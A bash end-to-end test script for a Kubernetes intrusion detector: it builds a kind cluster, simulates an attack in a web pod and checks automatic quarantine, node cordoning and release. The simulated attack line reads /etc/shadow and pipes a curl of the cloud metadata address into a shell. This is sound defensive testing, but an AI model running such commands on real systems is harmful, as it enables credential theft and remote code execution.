#!/usr/bin/env bash
# End-to-end detection and containment on a real cluster: kind with Calico (a CNI that enforces
# NetworkPolicy). Not run in CI (no cluster can be installed there). Needs kind, kubectl, docker
# and a detector image (deploy/image.sh, offline, or deploy/Dockerfile):
#
#   deploy/image.sh detector:dev     # or: docker build -f deploy/Dockerfile -t detector:dev .
#   DETECTOR_IMAGE=detector:dev deploy/e2e/kind-containment.sh
#
# It creates the cluster `detector-e2e` (KIND_IMAGE picks the node image, hence the Kubernetes
# version, e.g. kindest/node:v1.26.15), deploys the detector DaemonSet from deploy/ (the
# kustomization, with the image and the components in COMPONENTS), a two-replica web Deployment with a
# Service and a PodDisruptionBudget, and a client pod. Then it attacks one web pod the way the
# playbooks describe (a shell reading /etc/shadow, a download piped into a shell) and lets the
# detector contain it on its own: it checks every effect the playbook promises, releases the
# incident with `detector release` inside the detector pod, checks the undo, and deletes the
# cluster (KEEP=1 keeps it).
set -euo pipefail

CLUSTER=${CLUSTER:-detector-e2e}
IMAGE=${DETECTOR_IMAGE:?set DETECTOR_IMAGE to a detector image}
CALICO=${CALICO:-https://raw.githubusercontent.com/projectcalico/calico/v3.29.1/manifests/calico.yaml}
deploy=$(cd "$(dirname "$0")/.." && pwd)
work=$(mktemp -d)

cleanup() {
    rm -rf "$work"
    [ "${KEEP:-0}" = 1 ] || kind delete cluster --name "$CLUSTER" >/dev/null 2>&1 || true
}
trap cleanup EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }
# Polls `$@` until it succeeds or $timeout seconds pass.
until_ok() {
    local timeout=$1; shift
    for _ in $(seq "$timeout"); do "$@" >/dev/null 2>&1 && return 0; sleep 1; done
    return 1
}

cat <<YAML | kind create cluster --name "$CLUSTER" ${KIND_IMAGE:+--image "$KIND_IMAGE"} --config -
kind: Cluster
apiVersion: kind.x-k8s.io/v1alpha4
networking: { disableDefaultCNI: true, podSubnet: 192.168.0.0/16 }
nodes: [{ role: control-plane }, { role: worker }, { role: worker }]
YAML
kubectl apply -f "$CALICO"
kubectl -n kube-system rollout status ds/calico-node --timeout=300s
kind load docker-image "$IMAGE" --name "$CLUSTER"

# The detector, as shipped, with the test image: a kustomization of our own over deploy/, as a
# user writes one, with the components named in COMPONENTS (e.g. "apparmor-field" on
# Kubernetes 1.30+; "servicemonitor" needs the Prometheus Operator's CRDs).
mkdir -p "$work/detector"
{
    echo "resources: [$(realpath --relative-to="$work/detector" "$deploy")]"
    echo "components:"
    for component in ${COMPONENTS:-}; do
        echo "  - $(realpath --relative-to="$work/detector" "$deploy/components/$component")"
    done
    echo "images:"
    echo "  - { name: detector, newName: ${IMAGE%:*}, newTag: ${IMAGE##*:} }"
} >"$work/detector/kustomization.yaml"
kubectl apply -k "$work/detector"
kubectl -n detector-system rollout status ds/detector --timeout=300s

kubectl create namespace shop
kubectl -n shop create deployment web --image=nginx:1.27 --replicas=2
kubectl -n shop expose deployment web --port=80
kubectl -n shop create poddisruptionbudget web --selector=app=web --min-available=1
kubectl -n shop run client --image=busybox:1.36 --restart=Never -- sleep 3600
kubectl -n shop rollout status deployment/web --timeout=180s
kubectl -n shop wait --for=condition=Ready pod/client --timeout=120s
sleep 65  # past the detector's containment warm-up (contain.warmup_s, 60 s by default)

suspect=$(kubectl -n shop get pods -l app=web -o jsonpath='{.items[0].metadata.name}')
node=$(kubectl -n shop get pod "$suspect" -o jsonpath='{.spec.nodeName}')
ip=$(kubectl -n shop get pod "$suspect" -o jsonpath='{.status.podIP}')
echo "suspect $suspect on $node ($ip)"
kubectl -n shop exec client -- wget -qO- -T 3 "http://$ip" >/dev/null || fail "no traffic before"

# The attack, from inside the pod.
kubectl -n shop exec "$suspect" -- sh -c \
    'cat /etc/shadow >/dev/null; echo "echo owned" | sh; (curl -s http://169.254.169.254/ | sh) || true' || true

# The detector contains the pod on its own.
until_ok 60 sh -c "kubectl -n shop get pod $suspect -o jsonpath='{.metadata.labels.quarantine}' | grep -qx true" \
    || fail "the pod was not labelled quarantine=true"
[ -z "$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels.app}')" ] \
    || fail "the pod still carries the selector label app"
kubectl -n shop get networkpolicy detector-quarantine >/dev/null || fail "no deny-all NetworkPolicy"
[ "$(kubectl get node "$node" -o jsonpath='{.spec.unschedulable}')" = true ] || fail "node not cordoned"
until_ok 60 sh -c "[ \$(kubectl -n shop get pods -l app=web --field-selector=status.phase=Running -o name | wc -l) -ge 2 ]" \
    || fail "the ReplicaSet did not replace the suspect"
if kubectl -n shop exec client -- wget -qO- -T 3 "http://$ip" >/dev/null 2>&1; then
    fail "the quarantined pod still answers"
fi
kubectl -n shop exec client -- wget -qO- -T 5 http://web >/dev/null || fail "the Service no longer serves"

# Evidence was captured on the node, and the journal has the incident.
detector_pod=$(kubectl -n detector-system get pods -l app.kubernetes.io/name=detector \
    --field-selector "spec.nodeName=$node" -o jsonpath='{.items[0].metadata.name}')
incident=$(kubectl -n detector-system exec "$detector_pod" -- detector incidents --json \
    | grep -o '"id":"[^"]*"' | head -n1 | cut -d'"' -f4)
[ -n "$incident" ] || fail "no incident in the journal"
echo "incident $incident"

# Release, and check the undo.
kubectl -n detector-system exec "$detector_pod" -- detector release "$incident"
until_ok 60 sh -c "[ \"\$(kubectl get node $node -o jsonpath='{.spec.unschedulable}')\" != true ]" \
    || fail "the node is still cordoned"
[ "$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels.app}')" = web ] \
    || fail "the selector label was not restored"
[ -z "$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels.quarantine}')" ] \
    || fail "the quarantine label is still there"
echo "PASS"
